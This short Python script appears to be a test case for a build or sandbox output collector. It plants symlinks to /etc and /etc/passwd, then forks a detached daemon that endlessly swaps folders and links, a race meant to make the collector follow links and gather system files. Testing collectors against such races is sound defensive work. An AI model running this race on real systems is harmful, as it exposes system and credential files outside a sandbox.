# Leaves a daemon that swaps folders and files for links, as fast as it can, while they are collected.
# outputs: out/passwd out/link.txt
import os

os.mkdir('folder')
os.symlink('/etc', 'link')
os.mkfifo('fifo')
os.symlink('/etc/passwd', 'folder/link.txt')
os.rename('folder', 'out')
if os.fork() == 0:
    os.setsid()
    while True:
        os.rename('out', 'folder')
        os.rename('link', 'out')
        os.rename('out', 'link')
        os.rename('folder', 'out')
